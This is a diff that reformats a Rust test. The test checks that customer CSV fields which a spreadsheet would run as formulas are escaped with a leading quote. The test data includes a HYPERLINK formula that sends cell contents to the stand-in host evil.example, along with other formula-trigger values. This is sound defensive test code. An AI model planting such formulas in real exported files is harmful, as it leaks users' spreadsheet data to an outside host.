@@ -4067,10 +4067,18 @@ fn text_a_spreadsheet_would_run_as_a_formula_is_written_as_text() {
     );
     let out = segment_curated(dir.path(), [sales, crm].concat());
     let customers = by_id(read_csv(&out.join("customers.csv")));
-    let cells = |id: &str| [customers[id]["job_title"].as_str(), customers[id]["main_city"].as_str()];
+    let cells = |id: &str| {
+        [
+            customers[id]["job_title"].as_str(),
+            customers[id]["main_city"].as_str(),
+        ]
+    };
     assert_eq!(
         cells("C-1"),
-        ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'@SUM(1+1)"]
+        [
+            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            "'@SUM(1+1)"
+        ]
     );
     assert_eq!(cells("C-2"), ["'+CEO", "'-Tehran"]);
     assert_eq!(cells("C-3"), ["CEO", "Tehran"]);
